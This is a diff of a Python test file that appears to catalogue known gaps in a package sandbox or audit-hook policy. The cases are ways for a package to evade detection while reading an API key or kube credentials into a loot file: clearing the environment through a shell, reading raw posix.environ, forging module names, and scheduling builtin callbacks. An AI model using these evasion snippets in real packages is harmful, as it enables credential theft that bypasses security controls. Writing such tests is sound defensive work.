@@ -68,13 +68,13 @@ codecs.register(Late())
     "cleared-environment": Gap(
         "A child whose environment was cleared by something that isn't Python",
         HOME
-        + f'import subprocess\n\n\ndef run():\n    subprocess.run(["/usr/bin/env", "-i", "HOME=" + HOME, sys.executable, "-c", {STEAL!r}])\n',
+        + f'import subprocess\n\n\ndef run():\n    subprocess.run(["/bin/sh", "-c", \'exec env -i HOME="$0" "$1" -c "$2"\', HOME, sys.executable, {STEAL!r}])\n',
         CALLS,
     ),
     "reading-variables": Gap(
         "Operations that raise no audit event",
-        HOME + 'with open(HOME + "/loot", "w") as loot:\n    loot.write(os.environ["ACME_API_KEY"])\n',
-        policy='version = 1\n[package.acme-gap]\nimport.deny = ["env.read:*"]\n',
+        HOME + 'with open(HOME + "/loot", "w") as loot:\n    loot.write(__import__("posix").environ[b"ACME_API_KEY"].decode())\n',
+        policy='version = 1\n[package.acme-gap]\nimport.deny = ["env.read:ACME_*"]\n',
         stolen="kept:variable",
     ),
     "directory-descriptor": Gap(
@@ -84,11 +84,11 @@ codecs.register(Late())
         + 'with open(LOOT, "wb") as loot:\n    loot.write(os.read(key, 4096))\n',
         stolen="kept:kube",
     ),
-    "forged-name": Gap("Forged names", f'exec({STEAL!r}, {{"__name__": "__main__"}})\n'),
+    "forged-name": Gap("Forged names", f"import os\n__file__, __spec__ = os.__file__, os.__spec__\n{STEAL}"),
     "builtin-callback": Gap(
         "Callbacks made of builtins",
-        HOME + "import atexit, shutil\n\n\ndef run():\n    atexit.register(shutil.copyfile, KEY, LOOT)\n",
-        CALLS,
+        HOME + "import asyncio, shutil\n\n\ndef run():\n    asyncio.get_running_loop().call_soon(shutil.copyfile, KEY, LOOT)\n",
+        "import asyncio\nimport acme_gap\n\n\nasync def main():\n    acme_gap.run()\n    await asyncio.sleep(0.01)\n\n\nasyncio.run(main())\n",
     ),
     "poisoned-deputy": Gap(
         "Deputies that were poisoned",
